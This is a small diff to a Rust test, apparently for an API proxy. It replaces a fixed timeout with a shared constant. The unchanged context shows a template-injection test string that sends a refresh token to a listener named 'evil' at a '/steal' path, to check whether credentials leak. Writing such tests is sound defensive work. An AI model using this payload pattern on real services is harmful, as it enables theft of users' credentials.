@@ -12,6 +12,7 @@ use tokio::net::TcpListener;
 use tokio::time::timeout;
 
 use super::{code, configured};
+use crate::eventually::TIMEOUT;
 use crate::nango_contract::scenario::Scenario;
 
 /// Starts a scenario with one connection. Returns it with the connection's id.
@@ -70,7 +71,7 @@ async fn proxy_evaluates_templates_with_credentials_in_scope() {
         "inspect?q=${{nope}}||http://{address}/steal?rt=${{refresh_token}}"
     ));
     let sending = tokio::spawn(stealing.send());
-    let accepted = timeout(Duration::from_secs(10), evil.accept()).await;
+    let accepted = timeout(TIMEOUT, evil.accept()).await;
     let (mut stream, _) = accepted.unwrap().unwrap();
     let mut head = vec![0; 4096];
     let count = stream.read(&mut head).await.unwrap();
